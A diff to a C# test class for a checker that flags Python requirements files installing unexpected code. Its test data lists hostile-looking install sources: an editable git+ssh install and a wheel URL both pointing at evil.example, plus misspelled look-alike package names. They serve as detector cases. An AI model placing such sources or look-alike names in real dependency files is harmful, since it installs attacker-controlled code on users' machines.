@@ -15,6 +15,7 @@ public sealed class RequirementsFormatTests
     [InlineData("requirements.txt", "torchtriton==2.0.0\n")]
     [InlineData("requirements.txt", "transformres==4.0\n")]
     [InlineData("requirements.txt", "lightning==2.6.2\n")]
+    [InlineData("requirements.txt", "-e git+ssh://git@evil.example/x.git#egg=x\n")]
     [InlineData("deps.txt", "numpy==1.0\nevil @ https://evil.example/x.whl\n")]
     public void T167_WhatInstallsSomethingElseIsFlagged(string name, string text)
     {
@@ -26,6 +27,7 @@ public sealed class RequirementsFormatTests
     [Theory]
     [InlineData("requirements.txt", "torch==2.1.0\ntransformers>=4.30 # why\n-e .\n--extra-index-url https://download.pytorch.org/whl/cu118\ngit+https://github.com/huggingface/peft.git@main\ntensorflow-cpu\nscikit-learn[all]~=1.0; python_version > '3.8'\n")]
     [InlineData("requirements.txt", "-i https://pypi.tuna.tsinghua.edu.cn/simple\n--trusted-host pypi.tuna.tsinghua.edu.cn\nnumpy\n# http://203.0.113.9\n")]
+    [InlineData("requirements.txt", "tensorboardX>=1.2\nctransformers\ngit+ssh://git@github.com/a/b.git\nx @ git+https://user:${TOKEN}@github.com/a/b@v1\n")]
     [InlineData("deps.txt", "numpy==1.0\npandas>=2\n")]
     public void OrdinaryRequirementsPass(string name, string text)
     {
